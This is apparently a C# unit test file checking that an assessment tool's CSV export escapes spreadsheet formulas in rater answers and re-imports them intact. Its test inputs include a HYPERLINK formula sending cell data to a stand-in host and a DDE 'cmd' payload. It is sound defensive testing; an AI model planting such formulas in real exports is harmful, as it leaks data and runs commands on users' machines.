using Assessment.Data.Answers;
using Assessment.Data.Tests.Stores;

namespace Assessment.Data.Tests.Answers;

/// <summary>Evidence and text answers are typed by raters: exported, they must not run as spreadsheet formulas.</summary>
public class AnswerExportInjectionTests
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"证据\")";
    private const string AtFormula = "@SUM(1+1)*cmd|' /C calc'!A0";

    [Theory, SqliteData, PostgresData]
    public void Formula_cells_are_neutralised_and_the_export_imports_back_unchanged(Provider provider)
    {
        using var temp = new TempFolder();
        using var db = temp.OpenDb(provider);
        var round = TestData.OpenRound(db);
        var store = new AnswerStore(db);
        Assert.IsType<SaveResult.Saved>(store.Save(new AnswerWrite(round.R1J1, "note", AtFormula, 0, round.Rater1.Id, Formula, null)));
        Assert.IsType<SaveResult.Saved>(store.Save(new AnswerWrite(round.R1J1, "q4", "-12.5", 0, round.Rater1.Id, "-这是说明", null)));

        var output = new StringWriter();
        AnswerExport.Export(db, round.RoundId, output);
        var csv = output.ToString();

        Assert.Contains("'@SUM(1+1)", csv);
        Assert.Contains("\"'=HYPERLINK(", csv);
        Assert.Contains(",-12.5,'-这是说明", csv); // the number stays a number; text starting with "-" is guarded
        Assert.DoesNotContain(",=HYPERLINK", csv);

        var result = AnswerImport.Import(db, round.RoundId, new StringReader(csv), "test");
        Assert.True(result.Ok, string.Join("; ", result.Problems));
        Assert.Equal((0, 2), (result.Written, result.Unchanged));
        var stored = store.ForResponse(round.R1J1).ToDictionary(a => a.ItemId);
        Assert.Equal((AtFormula, Formula), (stored["note"].Value, stored["note"].EvidenceText));
        Assert.Equal(("-12.5", "-这是说明"), (stored["q4"].Value, stored["q4"].EvidenceText));
    }
}
